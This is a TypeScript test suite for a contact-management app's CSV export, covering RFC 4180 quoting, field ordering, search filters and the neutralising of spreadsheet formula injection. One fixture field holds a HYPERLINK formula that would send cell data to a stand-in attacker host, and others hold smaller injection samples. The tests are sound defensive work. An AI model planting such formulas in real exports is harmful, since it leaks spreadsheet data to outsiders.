import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { useTestApp } from '../helpers/app.js';
import { createContact, createField, exportCsv, tag } from './helpers.js';

const t = useTestApp();

describe('CSV export', () => {
  let tricky: { id: number };
  let plain: { id: number };
  let statusId: number;

  before(async () => {
    await createField(t, { alias: 'industry', label: 'Industry', type: 'text' });
    await createField(t, { alias: 'score', label: 'Score', type: 'number' });
    await createField(t, { alias: 'vip', label: 'VIP', type: 'boolean' });
    await createField(t, { alias: 'signed_up', label: 'Signed up', type: 'date' });
    await createField(t, { alias: 'hidden_note', label: 'Hidden note', type: 'text', published: false });
    const status = await t.request({ method: 'POST', url: '/api/v1/statuses', payload: { name: 'Prospect, hot' } });
    statusId = status.json().status.id;
    tricky = await createContact(t, {
      firstname: 'Zoë "Zed"', lastname: 'Ångström, Jr.', email: 'zoe@example.com', company: 'Line one\nLine two',
      city: '東京', phone: '+49 30 1234567', position: '=HYPERLINK("http://evil.example/?"&A1,"x")', address1: '@SUM(1+1)',
      address2: "'=already quoted", industry: '-2+3', score: -12.5, vip: true, signed_up: '2024-02-29',
      hidden_note: 'not exported', owner: t.admin.id, status: statusId,
    });
    plain = await createContact(t, { firstname: 'Ada', email: 'ada@example.com', vip: false });
    await tag(t, tricky.id, ['vip', 'Berlin|Mitte'.replace('|', ' '), 'alpha']);
  });

  it('writes RFC 4180: UTF-8, CRLF, a header of aliases, quotes doubled only where needed', async () => {
    const { res, text, header, rows } = await exportCsv(t);
    assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
    assert.match(String(res.headers['content-disposition']), /^attachment; filename="contacts-\d{8}-\d{6}\.csv"$/);
    assert.ok(!text.startsWith('\ufeff'), 'no byte order mark');
    assert.ok(text.endsWith('\r\n'));
    assert.equal(text.split('\r\n').length - 1, 3, 'one CRLF per record (header and two contacts); the quoted newline stays LF');
    const fields = (await t.request({ method: 'GET', url: '/api/v1/fields' })).json().fields as { alias: string; published: boolean; order: number }[];
    const published = fields.filter((f) => f.published).map((f) => f.alias);
    assert.deepEqual(header, ['id', ...published, 'tags', 'ownerusername', 'status_name']);
    assert.ok(!header.includes('hidden_note'));

    assert.equal(rows.length, 2);
    const row = Object.fromEntries(header.map((name, i) => [name, rows.find((r) => r[0] === String(tricky.id))![i]]));
    assert.equal(row.firstname, 'Zoë "Zed"');
    assert.equal(row.lastname, 'Ångström, Jr.');
    assert.equal(row.company, 'Line one\nLine two');
    assert.equal(row.city, '東京');
    assert.equal(row.score, '-12.5', 'numbers are not guarded: a spreadsheet reads them as numbers');
    assert.equal(row.phone, '+49 30 1234567', 'phone numbers cannot hold a formula and stay as they are');
    assert.equal(row.vip, 'true');
    assert.equal(row.signed_up, '2024-02-29');
    assert.equal(row.owner, String(t.admin.id));
    assert.equal(row.ownerusername, t.admin.username);
    assert.equal(row.status, String(statusId));
    assert.equal(row.status_name, 'Prospect, hot');
    assert.equal(row.tags, 'alpha|Berlin Mitte|vip');
    assert.ok(text.includes('"Zoë ""Zed"""'), 'quotes doubled inside a quoted field');
    assert.ok(text.includes(',"Ångström, Jr.",'));
    assert.ok(text.includes(`\r\n${plain.id},`), 'a record without special characters is not quoted');
    const plainRow = Object.fromEntries(header.map((name, i) => [name, rows.find((r) => r[0] === String(plain.id))![i]]));
    assert.equal(plainRow.vip, 'false');
    assert.equal(plainRow.tags, '');
    assert.equal(plainRow.status_name, '');
  });

  it('guards text a visitor could type against formula injection, reversibly', async () => {
    const { header, rows } = await exportCsv(t, { ids: [tricky.id] });
    const row = Object.fromEntries(header.map((name, i) => [name, rows[0][i]]));
    assert.equal(row.position, '\'=HYPERLINK("http://evil.example/?"&A1,"x")');
    assert.equal(row.address1, "'@SUM(1+1)");
    assert.equal(row.industry, "'-2+3", 'a custom text field is guarded too');
    assert.equal(row.address2, "''=already quoted", 'a value already starting with an apostrophe gets one more');
  });

  it('guards values starting with a tab or a carriage return, and leaves a lone apostrophe alone', async () => {
    // The API trims what it stores; older or imported data may not be.
    const [one, two] = await Promise.all([
      createContact(t, { email: 'tab@example.com', company: "'tis the season" }),
      createContact(t, { email: 'cr@example.com' }),
    ]);
    await t.db.updateTable('contacts').set({ city: '\t=1+1' }).where('id', '=', one.id).execute();
    await t.db.updateTable('contacts').set({ city: '\r=1+1' }).where('id', '=', two.id).execute();
    const { text, rows } = await exportCsv(t, { ids: [one.id, two.id], fields: ['city', 'company'] });
    assert.deepEqual(rows, [[String(one.id), "'\t=1+1", "'tis the season"], [String(two.id), "'\r=1+1", '']]);
    assert.ok(text.includes(`\r\n${two.id},"'\r=1+1",\r\n`), 'a carriage return inside a value is quoted');
    await t.request({ method: 'DELETE', url: '/api/v1/contacts/batch', payload: { ids: [one.id, two.id] } });
  });

  it('writes the chosen fields in the order asked, after id', async () => {
    const { header, rows } = await exportCsv(t, { fields: ['email', 'industry', 'tags', 'hidden_note', 'id', 'email'] });
    assert.deepEqual(header, ['id', 'email', 'industry', 'tags', 'hidden_note']);
    assert.deepEqual(rows.find((r) => r[0] === String(tricky.id)), [String(tricky.id), 'zoe@example.com', "'-2+3", 'alpha|Berlin Mitte|vip', 'not exported']);
  });

  it('exports a selection of ids, skipping ids that name no contact', async () => {
    const { rows, job } = await exportCsv(t, { ids: [plain.id, 99_999_999], fields: ['email'] });
    assert.deepEqual(rows, [[String(plain.id), 'ada@example.com']]);
    assert.equal(job.result.rows, 1);
    assert.equal(job.result.format, 'csv');
    assert.match(job.result.filename, /^contacts-\d{8}-\d{6}\.csv$/);
  });

  it('exports every contact, in id order, without merged-away ones', async () => {
    const other = await createContact(t, { email: 'other@example.com' });
    await t.db.updateTable('contacts').set({ merged_into: plain.id }).where('id', '=', other.id).execute();
    const { rows, job } = await exportCsv(t, { fields: ['email'] });
    assert.deepEqual(rows.map((r) => r[0]), [String(tricky.id), String(plain.id)]);
    assert.equal(job.progress.done, 2);
    assert.equal(job.progress.total, 2);
    await t.db.deleteFrom('contacts').where('id', '=', other.id).execute();
  });

  it('exports a search result, with is:mine meaning the user who asked', async () => {
    const byEmail = await exportCsv(t, { search: 'email:ada@example.com', fields: ['email'] });
    assert.deepEqual(byEmail.rows, [[String(plain.id), 'ada@example.com']]);
    const mine = await exportCsv(t, { search: 'is:mine', fields: ['email'] });
    assert.deepEqual(mine.rows, [[String(tricky.id), 'zoe@example.com']]);
    const someoneElse = await t.user('user');
    assert.deepEqual((await exportCsv(t, { search: 'is:mine', fields: ['email'] }, someoneElse)).rows, []);
    const negated = await exportCsv(t, { search: '!email:ada*', fields: ['email'] });
    assert.deepEqual(negated.rows.map((r) => r[0]), [String(tricky.id)]);
  });

  it('refuses a search with a syntax error before queueing anything', async () => {
    const res = await t.request({ method: 'POST', url: '/api/v1/exports', payload: { format: 'csv', search: 'email:(ada' } });
    assert.equal(res.statusCode, 400, res.body);
    assert.ok(res.json().error.fields.search);
  });

  it('writes the header alone when nothing matches', async () => {
    const { text } = await exportCsv(t, { ids: [99_999_998], fields: ['email', 'firstname'] });
    assert.equal(text, 'id,email,firstname\r\n');
  });
});
